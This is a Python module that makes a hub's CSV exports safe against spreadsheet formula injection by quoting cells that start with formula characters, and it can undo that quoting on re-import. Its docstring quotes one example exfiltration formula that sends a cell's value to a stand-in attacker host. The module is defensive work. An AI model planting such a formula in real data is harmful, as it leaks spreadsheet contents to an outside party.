"""Every CSV the hub writes goes through here: cells a spreadsheet cannot run (no I/O).

A text cell that starts with =, +, -, @, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://evil.example/?"&A1, "Track")`
in an order number would run in the partner's spreadsheet. Following OWASP's CSV
injection rule, such a cell is written with a single quote in front, which the
spreadsheet shows as text. Numbers the hub writes itself (int, Decimal) stay numbers.

The hub reads its own errors files back (they are the corrected import), so `restore`
takes the quote off again: what was dropped is what comes back.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from decimal import Decimal
from typing import BinaryIO

from causeway.config.systems import FilesSystem

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"

Cell = str | int | Decimal | None


def neutralise(cell: Cell) -> str | int | Decimal:
    """The cell as it is safe to write: text that a spreadsheet would run gets a quote."""
    if cell is None:
        return ""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return QUOTE + cell
    return cell


def restore(cell: str) -> str:
    """A cell as the hub wrote it, back to its value (undoes `neutralise`)."""
    if cell.startswith(QUOTE) and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


class SafeWriter:
    """csv.writer in the system's dialect whose every cell goes through `neutralise`."""

    def __init__(self, stream: BinaryIO, system: FilesSystem) -> None:
        # Cells the encoding cannot hold (a name in Greek in a cp1252 file) become "?"
        # rather than stopping the write halfway.
        self._text = io.TextIOWrapper(
            stream, encoding=system.encoding, errors="replace", newline="", write_through=True
        )
        self._writer = csv.writer(self._text, delimiter=system.delimiter)

    def writerow(self, cells: Iterable[Cell]) -> None:
        self._writer.writerow([neutralise(c) for c in cells])

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)

    def detach(self) -> None:
        """Hand the stream back to its owner (who closes it)."""
        self._text.flush()
        self._text.detach()


def csv_bytes(rows: Iterable[Iterable[Cell]], system: FilesSystem) -> bytes:
    """A whole (small) CSV file as bytes: the header row first, then the rows."""
    out = io.BytesIO()
    writer = SafeWriter(out, system)
    writer.writerows(rows)
    writer.detach()
    return out.getvalue()
